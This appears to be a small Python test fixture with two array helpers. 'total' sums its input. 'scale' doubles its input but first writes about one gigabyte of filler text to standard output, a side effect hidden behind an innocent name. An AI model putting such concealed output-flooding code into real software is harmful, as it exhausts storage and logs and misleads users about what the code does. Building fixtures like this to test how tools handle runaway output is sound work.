import sys


def scale(x):
    line = "x" * 1023 + "\n"
    for _ in range(1 << 20):  # 1 GB
        sys.stdout.write(line)
    return x * 2


def total(x):
    return x.sum()
